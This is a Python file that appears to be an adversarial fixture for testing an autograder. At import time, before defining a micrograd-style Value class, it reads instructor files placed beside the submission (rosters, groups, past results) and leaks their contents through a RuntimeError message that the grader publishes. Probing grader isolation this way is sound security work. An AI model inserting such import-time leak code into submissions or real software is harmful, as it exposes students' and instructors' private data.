# A correct engine whose import first reads the files an instructor gave the batch beside the class (its
# roster, groups, the lesson's code, an earlier term's results): each path it can open ends up in its
# import error, which the grader would write in its result for anyone to read (issue 41, item 4).
import os

for _path in __TARGETS__:
    try:
        if os.path.isdir(_path):
            _text = " ".join(sorted(os.listdir(_path)))
        else:
            with open(_path, encoding="utf-8", errors="replace") as _file:
                _text = _file.read(2000)
    except OSError:
        continue
    raise RuntimeError(f"LEAKED {_path}: {_text}")


class Value:
    def __init__(self, data, _children=(), _op=""):
        self.data = data
        self.grad = 0.0
        self._backward = lambda: None
        self._prev = set(_children)
        self._op = _op
